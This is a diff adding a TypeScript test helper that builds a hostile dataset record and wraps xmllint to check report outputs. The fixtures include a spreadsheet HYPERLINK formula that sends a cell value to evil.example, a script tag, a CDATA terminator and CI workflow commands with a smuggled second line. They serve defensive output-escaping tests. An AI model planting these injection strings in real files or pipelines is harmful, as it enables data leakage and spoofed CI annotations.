@@ -1,0 +1,51 @@
+/** Shared by the report tests: hostile records, and the tools that check outputs from outside. */
+import { spawnSync } from 'node:child_process';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { ROOT } from './helpers.js';
+
+/**
+ * A title made to break every format: a spreadsheet formula, a script, a Markdown link and table
+ * cell, the end of an XML CDATA section, workflow commands, and a line break starting a new command.
+ */
+export const HOSTILE_TITLE =
+  '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert("pwned")</script> [click](http://evil.example) | cell ]]> ::error::injected\n::warning file=x::second line';
+/** An identifier with markup and command separators of its own. */
+export const HOSTILE_ID = 'x]]><b>id</b>::notice::id,a:b';
+/** A frequency code that is a formula: quoted back in a finding's message and value. */
+export const HOSTILE_CODE = '=HYPERLINK("http://evil.example","x")';
+
+/** A clean federal package with hostile text in its id, title and frequency. */
+export function hostilePackage(): Record<string, unknown> {
+  const p = JSON.parse(readFileSync(join(ROOT, 'fixtures/ca-gc/dataset.json'), 'utf8'));
+  p.id = HOSTILE_ID;
+  p.name = HOSTILE_ID;
+  p.title_translated = { en: HOSTILE_TITLE, fr: HOSTILE_TITLE };
+  p.title = HOSTILE_TITLE;
+  p.frequency = HOSTILE_CODE;
+  return p;
+}
+
+/** Writes the hostile package as a JSON Lines file whose name has a comma and a colon too. */
+export function writeHostile(dir: string): string {
+  const f = join(dir, 'odd,name:1.jsonl');
+  writeFileSync(f, JSON.stringify(hostilePackage()) + '\n');
+  return f;
+}
+
+/** xmllint, when installed (.ci/run installs libxml2-utils). */
+export const XMLLINT = spawnSync('xmllint', ['--version']).status === 0;
+if (!XMLLINT) console.warn('xmllint not found: JUnit schema checks are skipped (apt-get install libxml2-utils)');
+
+/** Validates an XML file against an XSD with xmllint; returns xmllint's complaints, '' when valid. */
+export function xmlSchemaErrors(file: string, xsd: string): string {
+  const r = spawnSync('xmllint', ['--noout', '--schema', xsd, file], { encoding: 'utf8' });
+  return r.status === 0 ? '' : r.stderr;
+}
+
+/** An XPath string value, as xmllint decodes it (entities resolved). */
+export function xpath(file: string, expr: string): string {
+  const r = spawnSync('xmllint', ['--xpath', expr, file], { encoding: 'utf8' });
+  if (r.status !== 0) throw new Error(`xmllint --xpath ${expr}: ${r.stderr}`);
+  return r.stdout.replace(/\n$/, '');
+}
